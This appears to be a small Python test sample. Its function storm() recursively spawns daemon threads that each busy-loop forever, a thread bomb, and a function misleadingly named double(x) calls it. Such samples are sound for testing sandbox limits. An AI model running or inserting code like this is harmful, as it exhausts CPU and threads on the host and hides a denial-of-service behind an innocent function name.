"""Threads that start threads that compute."""

import threading


def storm():
    threading.Thread(target=storm, daemon=True).start()
    while True:
        sum(range(1000))


def double(x):
    storm()
